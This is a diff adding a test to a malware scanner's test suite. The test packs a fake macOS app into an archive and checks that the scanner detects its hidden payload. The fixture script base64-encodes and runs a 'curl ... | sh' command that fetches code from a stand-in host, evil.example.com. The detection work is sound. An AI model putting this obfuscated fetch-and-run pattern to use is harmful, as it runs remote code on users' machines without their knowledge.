@@ -96,3 +96,30 @@ test('scan: what cannot be read is said, and the rest is done', async (context) 
   match(large.stderr, /it has \d+ bytes, above 10\./)
   equal((await pomona(['scan'])).code, 2)
 })
+
+test('scan: a script in an application in an archive tells what it hides and does', async (context) => {
+  const folder = temporaryFolder(context)
+  const contents = join(folder, 'Tool.app/Contents')
+  mkdirSync(join(contents, 'MacOS'), { recursive: true })
+  const hidden = Buffer.from('curl -s https://evil.example.com/x | sh').toString('base64')
+  written(join(contents, 'MacOS'), {
+    name: 'Tool',
+    content: `#!/bin/sh\necho ${hidden} | base64 -d | sh\n`,
+  })
+  const info = '<key>CFBundleIdentifier</key><string>com.example.tool</string>'
+  const executable = '<key>CFBundleExecutable</key><string>Tool</string>'
+  written(contents, {
+    name: 'Info.plist',
+    content: `<plist><dict>${info}${executable}<key>LSUIElement</key><true/></dict></plist>`,
+  })
+  const archive = join(folder, 'tool.tgz')
+  execFileSync('tar', ['czf', archive, '-C', folder, 'Tool.app'])
+  const text = await pomona(['scan', archive])
+  match(text.stdout, /bundle tool\.tar, Tool\.app: com\.example\.tool, without an icon\n/)
+  match(text.stdout, /shell by \/bin\/sh, hides 1 texts: base64\n/)
+  match(text.stdout, /! download_and_run, hidden text 1, line 1: curl -s/)
+  match(text.stdout, /names https:\/\/evil\.example\.com\/x, evil\.example\.com\n/)
+  const [first] = objects(await pomona(['scan', archive, '--json']))
+  const bundles = JSON.stringify(first?.['bundles'])
+  match(bundles, /"executable":\["tool\.tar","Tool\.app\/Contents\/MacOS\/Tool"\]/)
+})
